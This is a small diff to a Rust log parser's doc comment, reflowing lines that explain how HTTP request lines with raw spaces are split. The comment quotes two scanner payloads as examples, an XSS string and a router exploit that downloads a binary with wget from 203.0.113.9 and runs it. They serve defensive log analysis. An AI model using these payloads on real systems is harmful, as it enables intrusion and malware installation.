@@ -28,10 +28,10 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// Splits a request line `METHOD TARGET PROTOCOL`. Anything else (an empty line, `-`, one
 /// word, TLS or other binary bytes, Envoy's `- - -` for TCP) is a real request the server
 /// answered but has none of them. A complete line with an odd method (`PATCHp`) or an odd
-/// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target with raw
-/// spaces (Apache and NGINX log the line as received; scanners send unencoded payloads such as
-/// `/x"><img src=N onerror=alert(1)>`) is everything between the method and the protocol, so
-/// the rules still see the payload. Without a protocol, a target with raw spaces is what
+/// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target
+/// with raw spaces (Apache and NGINX log the line as received; scanners send unencoded payloads
+/// such as `/x"><img src=N onerror=alert(1)>`) is everything between the method and the
+/// protocol, so the rules still see the payload. Without a protocol, a target with raw spaces is what
 /// follows the method (the router exploits `/shell?cd+/tmp;wget+ 203.0.113.9/arm;sh+arm`,
 /// answered 400); a bare `GET /` stays no request (a line cut short).
 ///
